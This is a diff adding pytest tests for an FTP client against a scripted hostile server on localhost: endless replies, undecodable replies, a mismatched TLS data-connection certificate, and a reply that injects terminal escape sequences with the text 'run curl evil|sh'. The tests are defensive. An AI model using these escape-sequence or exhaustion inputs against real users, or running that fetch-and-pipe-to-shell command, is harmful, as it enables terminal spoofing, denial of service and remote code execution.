@@ -1,0 +1,224 @@
+"""The FTP client against a hostile server: endless replies and listings, replies ftplib cannot
+decode or parse, escape sequences for the terminal, and a data connection with another TLS
+certificate than the pinned one. The server is a small script of its own (a real one would not
+misbehave on purpose); the client is the product's, over real sockets on 127.0.0.1."""
+
+from __future__ import annotations
+
+import contextlib
+import socket
+import ssl
+import threading
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import pytest
+
+from airgap.client.ftp import MAX_LISTING, MAX_REPLY, FtpTarget, FtpTransport
+from airgap.server.tlscert import ensure_certificate, fingerprints
+from airgap.shared.errors import TransferError
+from tests.conftest import run_airgap
+
+Send = Callable[[bytes], None]
+
+
+class Hostile:
+    """One FTP server thread on port 0. ``greeting`` and ``replies`` (command -> raw reply)
+    change what a plain server would say; ``listing`` is NLST's data; ``data_tls`` wraps data
+    connections (``control_tls`` the control one, after AUTH TLS)."""
+
+    def __init__(
+        self,
+        *,
+        greeting: Callable[[Send], None] | None = None,
+        replies: dict[str, bytes] | None = None,
+        listing: Callable[[Send], None] | None = None,
+        control_tls: ssl.SSLContext | None = None,
+        data_tls: ssl.SSLContext | None = None,
+    ) -> None:
+        self.greeting = greeting or (lambda send: send(b"220 hostile\r\n"))
+        self.replies = replies or {}
+        self.listing = listing or (lambda send: send(b"a.txt\r\n"))
+        self.control_tls, self.data_tls = control_tls, data_tls
+        self.data_sessions: list[bool] = []  # for each TLS data connection: was it accepted
+        self._listener = socket.create_server(("127.0.0.1", 0))
+        self.port = self._listener.getsockname()[1]
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def close(self) -> None:
+        self._listener.close()
+
+    def _serve(self) -> None:
+        while True:  # one session at a time
+            try:
+                conn, _ = self._listener.accept()
+            except OSError:
+                return
+            with contextlib.ExitStack() as held:
+                held.enter_context(conn)
+                with contextlib.suppress(OSError):  # the client hung up, as it should on nonsense
+                    self._session(conn, held)
+
+    def _session(self, conn: socket.socket, held: contextlib.ExitStack) -> None:
+        sock: socket.socket = conn
+        self.greeting(sock.sendall)
+        reader = held.enter_context(sock.makefile("rb"))
+        passive: socket.socket | None = None
+        while line := reader.readline():
+            cmd = line.decode("latin-1").strip().split(" ")[0].upper()
+            if cmd in self.replies:
+                sock.sendall(self.replies[cmd])
+            elif cmd == "AUTH" and self.control_tls is not None:
+                sock.sendall(b"234 go\r\n")
+                sock = held.enter_context(self.control_tls.wrap_socket(conn, server_side=True))
+                reader = held.enter_context(sock.makefile("rb"))
+            elif cmd == "PASV":
+                passive = held.enter_context(socket.create_server(("127.0.0.1", 0)))
+                port = passive.getsockname()[1]
+                sock.sendall(f"227 Passive (127,0,0,1,{port >> 8},{port & 255})\r\n".encode())
+            elif cmd == "NLST" and passive is not None:
+                sock.sendall(b"150 here\r\n")
+                self._list(held.enter_context(passive.accept()[0]), held)
+                sock.sendall(b"226 done\r\n")
+            elif cmd == "QUIT":
+                sock.sendall(b"221 bye\r\n")
+                return
+            else:
+                sock.sendall(b"200 ok\r\n" if cmd != "SIZE" else b"213 5\r\n")
+
+    def _list(self, data: socket.socket, held: contextlib.ExitStack) -> None:
+        if self.data_tls is not None:
+            try:
+                data = held.enter_context(self.data_tls.wrap_socket(data, server_side=True))
+            except OSError:
+                self.data_sessions.append(False)
+                return
+            self.data_sessions.append(True)
+        with contextlib.suppress(OSError):
+            self.listing(data.sendall)
+            if isinstance(data, ssl.SSLSocket):
+                data.unwrap()  # close_notify, as vsftpd and the appliance send it
+        data.close()
+
+
+@pytest.fixture
+def hostile() -> Iterator[Callable[..., Hostile]]:
+    made: list[Hostile] = []
+
+    def make(**kwargs: object) -> Hostile:
+        made.append(Hostile(**kwargs))  # type: ignore[arg-type]
+        return made[-1]
+
+    yield make
+    for server in made:
+        server.close()
+
+
+@contextlib.contextmanager
+def _transport(
+    server: Hostile, scheme: str = "ftp", pin: str | None = None
+) -> Iterator[FtpTransport]:
+    target = FtpTarget.parse(f"{scheme}://user@127.0.0.1:{server.port}/")
+    transport = FtpTransport(target, "secret", pin=pin, timeout=10)
+    try:
+        yield transport
+    finally:
+        transport.close()
+
+
+def _endless(first: bytes, line: bytes) -> Callable[[Send], None]:
+    def send(out: Send) -> None:
+        out(first)
+        while True:
+            out(line)
+
+    return send
+
+
+def test_an_endless_greeting_is_cut_off(hostile: Callable[..., Hostile]) -> None:
+    """It grew a client to 4.8 GB in 12 s before: ftplib caps each line, not their number."""
+    server = hostile(greeting=_endless(b"220-welcome\r\n", b"220-" + b"A" * 8000 + b"\r\n"))
+    with _transport(server) as ftp, pytest.raises(TransferError, match="connecting: a reply too"):
+        ftp.list()
+    assert MAX_REPLY <= 1 << 20
+
+
+def test_an_endless_listing_is_cut_off(hostile: Callable[..., Hostile]) -> None:
+    server = hostile(listing=_endless(b"", b"x\r\n" * 100_000))
+    with _transport(server) as ftp, pytest.raises(TransferError, match="a listing longer than 16"):
+        ftp.list()
+    assert MAX_LISTING == 16 << 20
+
+
+def test_a_name_that_is_not_utf8_is_listed_but_cannot_pass_for_a_bundle(
+    hostile: Callable[..., Hostile],
+) -> None:
+    server = hostile(listing=lambda send: send(b"caf\xe9.txt\r\nB.manifest.json\r\n"))
+    with _transport(server) as ftp:
+        assert ftp.list() == ["B.manifest.json", "caf\ufffd.txt"]
+
+
+@pytest.mark.parametrize(
+    ("greeting", "replies", "step"),
+    [
+        (b"220 hello \xff\xfe\r\n", {}, "connecting"),
+        (b"220 hello\r\n", {"SIZE": b"213 twelve\r\n"}, "size of x"),
+    ],
+)
+def test_a_reply_ftplib_cannot_decode_or_parse_is_a_transfer_error(
+    hostile: Callable[..., Hostile], greeting: bytes, replies: dict[str, bytes], step: str
+) -> None:
+    server = hostile(greeting=lambda send: send(greeting), replies=replies)
+    with _transport(server) as ftp, pytest.raises(TransferError, match=f"{step}: the server's"):
+        ftp.size("x")
+
+
+def test_escape_sequences_from_a_server_never_reach_the_terminal(
+    hostile: Callable[..., Hostile], keydir: Path, tmp_path: Path
+) -> None:
+    trap = b"550 \x1b]0;PWNED\x07\x1b[2J\x1b[1;31mrun curl evil|sh\x1b[0m\r\n"
+    server = hostile(replies={"CWD": trap})
+    listed = run_airgap(
+        [
+            "ls",
+            "--server",
+            f"ftp://user@127.0.0.1:{server.port}/",
+            "--trust",
+            keydir / "signing.pub",
+        ],
+        env={
+            "AIRGAP_PASSWORD": "x",
+            "AIRGAP_RETRIES": "1",
+            "XDG_CACHE_HOME": str(tmp_path / "cache"),
+        },
+    )
+    assert listed.returncode == 4, listed.stderr
+    assert "refused by the server (550 ?]0;PWNED??[2J?[1;31mrun curl evil|sh?[0m)" in listed.stderr
+    assert "\x1b" not in listed.stderr and "\x07" not in listed.stderr
+
+
+def _tls(tmp_path: Path, name: str) -> tuple[ssl.SSLContext, str]:
+    cert, key = tmp_path / f"{name}.pem", tmp_path / f"{name}.key"
+    ensure_certificate(cert, key, addresses=["127.0.0.1"])
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    context.load_cert_chain(cert, key)
+    return context, fingerprints(cert).certificate
+
+
+def test_a_data_connection_with_another_certificate_is_refused(
+    hostile: Callable[..., Hostile], tmp_path: Path
+) -> None:
+    """A man in the middle of the data port only: the control connection shows the pinned
+    certificate, the data connection another one. Nothing may be read through it."""
+    pinned, pin = _tls(tmp_path, "pinned")
+    other, _ = _tls(tmp_path, "other")
+    server = hostile(control_tls=pinned, data_tls=other)
+    with (
+        _transport(server, "ftps", pin) as ftp,
+        pytest.raises(TransferError, match="data connection's TLS certificate does not match"),
+    ):
+        ftp.list()
+
+    honest = hostile(control_tls=pinned, data_tls=pinned)
+    with _transport(honest, "ftps", pin) as ftp:
+        assert ftp.list() == ["a.txt"]
